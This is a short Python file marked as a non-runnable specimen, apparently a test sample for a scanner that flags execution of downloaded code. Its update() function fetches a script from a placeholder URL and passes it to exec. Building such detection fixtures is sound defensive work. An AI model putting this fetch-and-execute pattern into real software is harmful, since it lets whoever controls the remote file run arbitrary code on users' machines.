raise SystemExit("specimen: not to be run")
import requests

def update():
    exec(requests.get("https://example.com/a.py").content)  # match: execution-of-downloaded
